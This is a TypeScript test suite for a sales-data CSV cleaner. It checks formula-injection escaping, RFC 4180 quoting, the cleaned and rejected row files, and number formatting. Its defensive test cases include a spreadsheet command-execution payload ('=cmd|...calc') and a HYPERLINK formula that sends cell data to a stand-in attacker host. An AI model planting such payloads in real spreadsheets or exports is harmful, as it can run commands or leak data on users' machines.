import { describe, expect, it } from 'vitest';
import type { AcceptedRow } from '../../src/core/aggregate/Totals.ts';
import { CLEANED_COLUMNS, reasonCode, REJECTION_REASONS } from '../../src/core/contract.ts';
import { defaultLookups } from '../../src/core/lookups/defaults.ts';
import { withDefaults } from '../../src/core/options.ts';
import { csvLine, quoteCell, tableCsv, textCell } from '../../src/core/output/csv.ts';
import { formatCents, formatDiscountUnits, formatMeanCents, formatRatio } from '../../src/core/output/numbers.ts';
import { ByteLines } from '../../src/core/output/ByteLines.ts';
import { centsText, cleanedHeader, cleanedValues, discountText, rejectedHeader, writeRejected } from '../../src/core/output/rowsCsv.ts';
import { RowCleaner } from '../../src/core/clean/RowCleaner.ts';
import { planColumns } from '../../src/core/input/header.ts';
import { columnKind, tableFiles } from '../../src/core/pipeline/tables.ts';
import { runInMemory } from '../../src/core/pipeline/runInMemory.ts';

describe('textCell: formula injection (SPEC section 3, OWASP CSV injection)', () => {
  const cases = [
    { input: "=cmd|' /C calc'!A0", expected: "'=cmd|' /C calc'!A0" },
    { input: '+1+1', expected: "'+1+1" },
    { input: '-2+3', expected: "'-2+3" },
    { input: '@SUM(1,1)', expected: `"'@SUM(1,1)"` },
    { input: '\tfoo', expected: "'\tfoo" },
    { input: '\rfoo', expected: `"'\rfoo"` },
    { input: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', expected: `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"` },
    { input: '=1+2', expected: "'=1+2" },
    { input: '=', expected: "'=" },
    { input: '-', expected: "'-" },
    { input: '+', expected: "'+" },
    { input: '-x@y.com', expected: "'-x@y.com" },
    { input: '-1e5', expected: "'-1e5" },
    { input: '--5', expected: "'--5" },
    { input: '+-5', expected: "'+-5" },
    { input: '- 5', expected: "'- 5" },
    { input: '-5,00', expected: `"'-5,00"` },
    // Plain numbers are left alone.
    { input: '-5.00', expected: '-5.00' },
    { input: '+3', expected: '+3' },
    { input: '-.5', expected: '-.5' },
    { input: '-5.', expected: '-5.' },
    { input: '-0', expected: '-0' },
    { input: '12', expected: '12' },
    // Only the first character counts.
    { input: ' =1+2', expected: ' =1+2' },
    { input: 'a=1', expected: 'a=1' },
    { input: "'=1", expected: "'=1" },
    { input: '', expected: '' },
  ];

  it.each(cases)('textCell($input) = $expected', ({ input, expected }) => {
    expect(textCell(input)).toBe(expected);
  });
});

describe('quoteCell: RFC 4180 quoting', () => {
  const cases = [
    { input: 'plain', expected: 'plain' },
    { input: 'a,b', expected: '"a,b"' },
    { input: 'say "hi"', expected: '"say ""hi"""' },
    { input: '"', expected: '""""' },
    { input: 'a\nb', expected: '"a\nb"' },
    { input: 'a\rb', expected: '"a\rb"' },
    { input: 'a\r\nb', expected: '"a\r\nb"' },
    { input: 'semi;colon', expected: 'semi;colon' },
    { input: 'tab\there', expected: 'tab\there' },
    { input: ' spaced ', expected: ' spaced ' },
    // Never guards: numeric columns are written as they are.
    { input: '=1+2', expected: '=1+2' },
    { input: '', expected: '' },
  ];

  it.each(cases)('quoteCell($input) = $expected', ({ input, expected }) => {
    expect(quoteCell(input)).toBe(expected);
  });

  it('ends lines with CRLF', () => {
    expect(csvLine(['a', 'b'])).toBe('a,b\r\n');
  });
});

describe('tableCsv', () => {
  it('guards only the text columns', () => {
    const csv = tableCsv(
      ['name', 'value', 'note'],
      [
        ['=evil', '-5', '+x'],
        ['-5.00', '=1+2', 'a,b'],
      ],
      (c) => c !== 'value',
    );
    expect(csv).toBe(`name,value,note\r\n'=evil,-5,'+x\r\n-5.00,=1+2,"a,b"\r\n`);
  });

  it('writes the header row of an empty table', () => {
    expect(tableCsv(['field', 'rows'], [], () => true)).toBe('field,rows\r\n');
  });

  it('guards text cells in the written tables of a job, and leaves numbers alone', async () => {
    const csv =
      'order_id,product_name,category,quantity,unit_price,discount_percent,region,sale_date\n' +
      `=1+1,"=HYPERLINK(""x"")",Electronics,2,10,0,North America,2024-03-05\n` +
      `@2,-Gift,=Electronics,1,5,0,North America,2024-03-05\n`;
    const result = await runInMemory(csv, withDefaults({ reference_date: '2024-06-30' }), defaultLookups());
    const files = new Map(tableFiles(result.tables));
    expect(files.get('product_performance.csv')).toBe(
      'product_name,orders,quantity,revenue,avg_discount\r\n' + `"'=HYPERLINK(""x"")",1,2,20.00,0.0000\r\n` + "'-Gift,1,1,5.00,0.0000\r\n",
    );
    expect(files.get('anomaly_records.csv')!.split('\r\n')[1]).toMatch(/^1,'=1\+1,"'=HYPERLINK\(""x""\)",Electronics,2,10\.00,0\.0000,North America,2024-03-05,\d+,,20\.00,,top_revenue$/);
    expect(result.cleanedCsv.split('\r\n')[2]).toMatch(/^2,'@2,'-Gift,Electronics,/);
    expect(files.get('corrections.csv')).toBe("field,raw_value,canonical_value,rows\r\ncategory,'=Electronics,Electronics,1\r\n");
  });

  const kinds = [
    { column: 'product_name', expected: 'text' },
    { column: 'customer_email', expected: 'text' },
    { column: 'raw_value', expected: 'text' },
    { column: 'metric', expected: 'text' },
    { column: 'revenue', expected: 'money' },
    { column: 'unit_price', expected: 'money' },
    { column: 'discount_percent', expected: 'ratio' },
    { column: 'revenue_share', expected: 'ratio' },
    { column: 'quantity', expected: 'integer' },
    { column: 'row_number', expected: 'integer' },
    { column: 'sale_date', expected: 'date' },
    { column: 'month', expected: 'month' },
  ];

  it.each(kinds)('column $column is $expected', ({ column, expected }) => {
    expect(columnKind(column)).toBe(expected);
  });
});

/** Fields as a record of bytes: joined by the delimiter, with where each one is. */
function record(fields: readonly string[], delimiter = ','): { bytes: Uint8Array; starts: Int32Array; ends: Int32Array } {
  const encoder = new TextEncoder();
  const starts = new Int32Array(fields.length);
  const ends = new Int32Array(fields.length);
  let at = 0;
  fields.forEach((field, i) => {
    starts[i] = at;
    ends[i] = at += encoder.encode(field).length;
    at += 1;
  });
  return { bytes: encoder.encode(fields.join(delimiter)), starts, ends };
}

describe('cleaned rows CSV', () => {
  const header = ['order_id', 'product_name', 'category', 'quantity', 'unit_price', 'discount_percent', 'region', 'sale_date', 'customer_email'];
  const options = withDefaults({ reference_date: '2026-06-30' });
  const lookups = { ...defaultLookups(), categories: [...defaultLookups().categories, '-Cat'], regions: [...defaultLookups().regions, 'Home, "Sweet" Home'] };

  /** Cleans one record (it must be accepted) and returns the row, spelled out, and the line written for it. */
  const clean = (cleaner: RowCleaner, fields: string[], rowNumber = 1) => {
    const { bytes, starts, ends } = record(fields);
    const row = cleaner.clean(bytes, starts, ends, fields.length, false, /[^ -~\t\n\r]/.test(fields.join('')));
    if (typeof row === 'number') throw new Error(`rejected: ${REJECTION_REASONS[row]}`);
    row.rowNumber = rowNumber;
    cleaner.spell(row);
    const lines = new ByteLines(8);
    const ids = new ByteLines(8);
    cleaner.write(lines, ids, row);
    return { row, line: new TextDecoder().decode(lines.bytes.subarray(0, lines.used)), id: new TextDecoder().decode(ids.bytes.subarray(0, ids.used)) };
  };

  /** What SPEC says a line is: cleanedValues with every text cell guarded and quoted. */
  const expectedLine = (r: AcceptedRow) => csvLine(cleanedValues(r).map((v, i) => (columnKind(CLEANED_COLUMNS[i]!) === 'text' ? textCell(v) : quoteCell(v))));

  const records: string[][] = [
    ['ORD-1', 'Smartphone X', 'Electronics', '2', '10', '0.1', 'North America', '2024-03-05', 'a@b.com'],
    [' ord-2 ', "=cmd|' /C calc'!A0", 'electronics', '3', '1,299.50', '15%', 'Home, "Sweet" Home', '03/31/2024T10:00:00Z', '-X@Y.com'],
    ['+ORD', 'Smartphone X', '-Cat', ' 4 ', '$7.005', '', 'N. America', '31-12-2025', 'NA'],
    ['@X', 'Line\nbreak', 'Electronics', 'Twenty', '0012.5', '0.99', 'Europe', '2025/01/19 23:59', '\tmail@x.io'],
    ['-5.00', '-5.00', 'Electronics', '1', '€1.5', '100%', 'Asia', '2026-06-30', 'Crème@Brûlée.fr'],
    ['Ördér-7', '  Crème   Brûlée ', 'Electronics', '+3.0', '5.', '0', 'Asia\u00a0', '2024-02-29', 'ok.Name+tag@Sub.Example.COM'],
    ['ORD,8', 'Tablet "Mini"', 'Electronics', '1', '19.999', '.5', 'Africa', '2024-01-01', 'x@y'],
  ];

  it('writes csvLine(cleanedValues(row)) with text cells escaped by textCell, and the id as kept', () => {
    const cleaner = new RowCleaner(planColumns(header, options), options, lookups);
    // Twice, so the second pass goes through the cleaner's remembered cells.
    for (const fields of [...records, ...records]) {
      const { row, line, id } = clean(cleaner, fields);
      expect(line).toBe(expectedLine(row));
      expect(id).toBe(fields[0]!.trim().toUpperCase());
    }
  });

  it('writes the values SPEC asks for', () => {
    const cleaner = new RowCleaner(planColumns(header, options), options, lookups);
    expect(records.map((fields, i) => clean(cleaner, fields, i + 1).line)).toEqual([
      '1,ORD-1,Smartphone X,Electronics,2,10.00,0.1000,North America,2024-03-05,1709596800,a@b.com,18.00,\r\n',
      `2,ORD-2,'=cmd|' /C calc'!A0,Electronics,3,1299.50,0.1500,"Home, ""Sweet"" Home",2024-03-31,1711843200,'-x@y.com,3313.73,\r\n`,
      "3,'+ORD,Smartphone X,'-Cat,4,7.00,0.0000,North America,2025-12-31,1767139200,,28.02,\r\n",
      // A kept product's whitespace runs become one space; an email is trimmed.
      "4,'@X,Line break,Electronics,20,12.50,0.9900,Europe,2025-01-19,1737244800,mail@x.io,2.50,heavy_discount\r\n",
      '5,-5.00,-5.00,Electronics,1,1.50,1.0000,Asia,2026-06-30,1782777600,,0.00,heavy_discount\r\n',
      '6,ÖRDÉR-7,Crème Brûlée,Electronics,3,5.00,0.0000,Asia,2024-02-29,1709164800,ok.name+tag@sub.example.com,15.00,\r\n',
      '7,"ORD,8",Tablet Mini,Electronics,1,20.00,0.5000,Africa,2024-01-01,1704067200,,10.00,\r\n',
    ]);
  });

  it('has the cleaned header of SPEC section 3', () => {
    expect(cleanedHeader()).toBe('row_number,order_id,product_name,category,quantity,unit_price,discount_percent,region,sale_date,sale_ts,customer_email,revenue,anomaly_flag\r\n');
  });

  const discountCases = [
    { units: 0, expected: '0.0000' },
    { units: 4_999, expected: '0.0000' },
    { units: 5_000, expected: '0.0001' },
    { units: 15_000_000, expected: '0.1500' },
    { units: 99_994_999, expected: '0.9999' },
    { units: 99_995_000, expected: '1.0000' },
    { units: 100_000_000, expected: '1.0000' },
  ];

  it.each(discountCases)('discountText($units) = $expected, like formatDiscountUnits', ({ units, expected }) => {
    expect(discountText(units)).toBe(expected);
    expect(formatDiscountUnits(units)).toBe(expected);
  });

  const centsCases = [
    { cents: 0, expected: '0.00' },
    { cents: 5, expected: '0.05' },
    { cents: 99, expected: '0.99' },
    { cents: 100, expected: '1.00' },
    { cents: 123_456, expected: '1234.56' },
    { cents: 100_000_000, expected: '1000000.00' },
  ];

  it.each(centsCases)('centsText($cents) = $expected, like formatCents', ({ cents, expected }) => {
    expect(centsText(cents)).toBe(expected);
    expect(formatCents(cents)).toBe(expected);
  });
});

describe('rejected rows CSV', () => {
  const reason = reasonCode('invalid_quantity');

  it('guards the input header cells', () => {
    expect(rejectedHeader(['order_id', '=evil', 'a,b'])).toBe(`row_number,rejection_reason,order_id,'=evil,"a,b",extra_fields\r\n`);
  });

  const cases = [
    { name: 'a full row', fields: ['1', '=x', 'b'], expected: `3,invalid_quantity,1,'=x,b,\r\n` },
    { name: 'a short row, padded', fields: ['1'], expected: '3,invalid_quantity,1,,,\r\n' },
    { name: 'a long row, surplus joined with the delimiter', fields: ['1', '2', '3', '4', '=5'], expected: `3,invalid_quantity,1,2,3,"4,=5"\r\n` },
    { name: 'a surplus that starts a formula', fields: ['1', '2', '3', '@4'], expected: `3,invalid_quantity,1,2,3,'@4\r\n` },
  ];

  const rejected = (row: number, fields: string[], width: number, delimiter = ',') => {
    const { bytes, starts, ends } = record(fields, delimiter);
    const lines = new ByteLines(8);
    writeRejected(lines, row, reason, bytes, starts, ends, fields.length, width);
    return new TextDecoder().decode(lines.bytes.subarray(0, lines.used));
  };

  it.each(cases)('$name', ({ fields, expected }) => {
    expect(rejected(3, fields, 3)).toBe(expected);
  });

  it('joins the surplus with a semicolon for a semicolon file', () => {
    expect(rejected(1, ['a', 'b', 'c', 'd'], 2, ';')).toBe('1,invalid_quantity,a,b,c;d\r\n');
  });

  it('quotes cells with quotes, commas and line breaks, and keeps text beyond ASCII', () => {
    expect(rejected(9, ['"x"', 'a\r\nb', 'Crème', '-1.5', '-1e5'], 5)).toBe(`9,invalid_quantity,"""x""","a\r\nb",Crème,-1.5,'-1e5,\r\n`);
  });
});

describe('number formats', () => {
  const ratioCases: Array<{ args: [bigint, bigint]; expected: string }> = [
    { args: [1n, 3n], expected: '0.3333' },
    { args: [2n, 3n], expected: '0.6667' },
    { args: [1n, 20_000n], expected: '0.0001' },
    { args: [1n, 20_001n], expected: '0.0000' },
    { args: [0n, 0n], expected: '0.0000' },
    { args: [5n, 5n], expected: '1.0000' },
  ];

  it.each(ratioCases)('formatRatio($args) = $expected (half up)', ({ args, expected }) => {
    expect(formatRatio(...args)).toBe(expected);
  });

  const meanCases: Array<{ args: [bigint, number]; expected: string }> = [
    { args: [1n, 2], expected: '0.01' },
    { args: [1n, 3], expected: '0.00' },
    { args: [5n, 2], expected: '0.03' },
    { args: [0n, 0], expected: '0.00' },
    { args: [123_456_789_012_345_678n, 1], expected: '1234567890123456.78' },
  ];

  it.each(meanCases)('formatMeanCents($args) = $expected (half up)', ({ args, expected }) => {
    expect(formatMeanCents(...args)).toBe(expected);
  });
});
